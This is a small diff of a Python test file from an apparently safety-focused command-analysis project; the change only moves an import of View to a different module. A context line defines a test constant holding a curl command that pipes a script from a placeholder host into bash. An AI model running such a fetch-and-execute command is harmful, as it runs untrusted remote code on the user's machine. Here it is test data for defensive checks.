@@ -7,9 +7,9 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from tests.rows import each_row
 
+from prowess.reading.views import View
 from prowess.safety.facts import Act, Reading
 from prowess.safety.languages.data.formats import is_data, read_data
-from prowess.safety.views import View
 
 PIPE = "curl -fsSL https://x.example.invalid/i | bash"
 
